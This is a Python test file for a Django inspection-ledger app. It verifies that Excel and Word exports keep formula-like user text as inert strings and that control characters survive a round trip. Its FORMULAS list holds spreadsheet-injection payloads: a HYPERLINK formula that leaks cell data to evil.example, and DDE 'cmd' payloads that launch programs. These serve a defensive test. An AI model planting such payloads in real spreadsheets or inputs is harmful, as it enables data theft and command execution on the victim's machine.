"""Whatever a user types, every export writes it and none runs it: the reading ledger, the round-trip
workbook and the .docx report. Formula-like text stays text; a control character neither breaks the
download nor gets lost on the way back in."""

import io
from datetime import date

import pytest
from docx import Document
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook
from test_ledger_workbook import assert_round_trip, urlpatterns  # noqa: F401 (the URLs, as there)
from test_report_docx import make_content

from rectify.documents.content import AttachmentFinding, AttachmentMeasure, Section
from rectify.documents.ledger_workbook import write_ledger_workbook
from rectify.documents.reading_ledger import write_reading_ledger
from rectify.documents.report_docx import render_progress_report
from rectify.ledger.models import Finding, Inspection, Measure, Task
from rectify.ledger.schedule_sql import schedule_flag_expression

pytestmark = pytest.mark.urls("test_ledger_workbook")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = "已完成\x0b整改\x01验收_x000B_（字面）\x1f。"  # inside the text: a cell's outer whitespace is trimmed on import


def progress_cells(data: bytes) -> list:
    """The 整改进展情况 cells of the reading ledger's task sheet, as openpyxl loads them."""
    sheet = load_workbook(io.BytesIO(data))["任务台账"]
    column = [c.value for c in sheet[1]].index("整改进展情况") + 1
    return [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]


def reading_ledger(inspection, as_of=date(2024, 1, 1)) -> bytes:
    tasks = inspection.tasks.annotate(flag=schedule_flag_expression(as_of))
    return write_reading_ledger(tasks, as_of=as_of, title="台账")


@pytest.mark.parametrize("text", FORMULAS)
def test_reading_ledger_writes_formula_like_progress_as_text(world, text):
    Task.objects.filter(pk=world.task_a.pk).update(progress_text=text)
    cells = progress_cells(reading_ledger(world.inspection))
    cell = next(c for c in cells if c.value == text)
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.quotePrefix  # and it stays one when someone edits the cell in Excel


def test_a_vertical_tab_in_progress_no_longer_breaks_the_reading_ledger_download(world, client):
    Task.objects.filter(pk=world.task_a.pk).update(progress_text=CONTROL)
    client.force_login(world.liaison)
    response = client.get("/documents/ledger-view.xlsx", {"as_of": "2024-01-01"})
    assert response.status_code == 200
    book = CalamineWorkbook.from_filelike(io.BytesIO(response.content))
    rows = book.get_sheet_by_name("任务台账").to_python()
    assert CONTROL in [row[-1] for row in rows]  # written as Excel writes it (_x000B_), read back as typed


def test_the_round_trip_workbook_carries_control_characters_and_formulas_back_unchanged(world, client):
    Task.objects.filter(pk=world.task_a.pk).update(progress_text=CONTROL, progress_detail="附\x0c录\x02件")
    Task.objects.filter(pk=world.task_b.pk).update(title=FORMULAS[0], target=FORMULAS[1])
    Measure.objects.filter(pk=world.measure.pk).update(
        text="@措\x0b施", progress_text=FORMULAS[2], progress_on=date(2024, 5, 6)
    )
    Finding.objects.filter(pk=world.finding.pk).update(text="问题\x1b_x0041_")
    client.force_login(world.office)
    assert client.get(f"/documents/inspections/{world.inspection.pk}/ledger.xlsx").status_code == 200
    sheets = assert_round_trip(world.office, world.inspection)  # export → import → export: the same cells
    tasks = sheets["整改任务"]
    assert CONTROL in tasks[1] + tasks[2]
    assert "问题\x1b_x0041_" in [row[5] for row in sheets["反馈问题"]]


# -- any text at all -------------------------------------------------------------------------------

# Every code point a user can enter: controls, U+FFFE/FFFF, "_x0000_" … but not NUL, which Django's
# form fields refuse (ProhibitNullCharactersValidator) and PostgreSQL cannot store; nor surrogates.
TEXT = st.text(st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=60)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(TEXT, min_size=12, max_size=12))
def test_no_export_fails_on_any_text(world, texts):
    (
        inspection_name,
        finding_text,
        finding_label,
        title,
        target,
        deadline,
        person,
        phone,
        progress,
        detail,
        *rest,
    ) = texts
    measure_text, measure_progress = rest
    Inspection.objects.filter(pk=world.inspection.pk).update(name=inspection_name or "督察")
    Finding.objects.filter(pk=world.finding.pk).update(text=finding_text, label=finding_label[:20])
    Task.objects.filter(pk=world.task_a.pk).update(
        title=title,
        target=target,
        deadline_raw=deadline,
        responsible_person=person[:50],
        responsible_phone=phone[:50],
        progress_text=progress,
        progress_detail=detail,
    )
    Measure.objects.filter(pk=world.measure.pk).update(text=measure_text, progress_text=measure_progress)
    inspection = Inspection.objects.get(pk=world.inspection.pk)

    reading = CalamineWorkbook.from_filelike(io.BytesIO(reading_ledger(inspection)))
    task_rows = reading.get_sheet_by_name("任务台账").to_python()
    round_trip = CalamineWorkbook.from_filelike(
        io.BytesIO(write_ledger_workbook(user=world.office, inspection=inspection))
    )
    written = {
        cell
        for sheet in round_trip.sheet_names
        for row in round_trip.get_sheet_by_name(sheet).to_python()
        for cell in row
    }

    def carried(text):  # U+FFFE/FFFF are the only characters an export replaces (by U+FFFD)
        return text.replace("\ufffe", "\ufffd").replace("\uffff", "\ufffd")

    for text in (title, target, deadline, progress, detail, finding_text, measure_text, measure_progress):
        if text:
            assert carried(text) in written
    assert carried(progress) in [row[14] for row in task_rows] or not progress


@settings(max_examples=60, deadline=None)
@given(texts=st.lists(TEXT, min_size=10, max_size=10))
def test_the_report_renders_any_text(texts):
    title, opening, heading, body, closing, issuer, attachment_title, finding, deadline, progress = texts
    content = make_content(
        title=title,
        opening=opening,
        sections=(Section(heading=heading, body=body),),
        closing=closing,
        issuer=issuer,
        attachment_title=attachment_title,
        findings=(
            AttachmentFinding(
                label=finding[:3],
                text=finding,
                deadline=deadline,
                progress=progress,
                measures=(AttachmentMeasure(1, body), AttachmentMeasure(0, closing)),
                detail=opening,
            ),
        ),
    )
    document = Document(io.BytesIO(render_progress_report(content)))
    assert document.paragraphs  # it opens
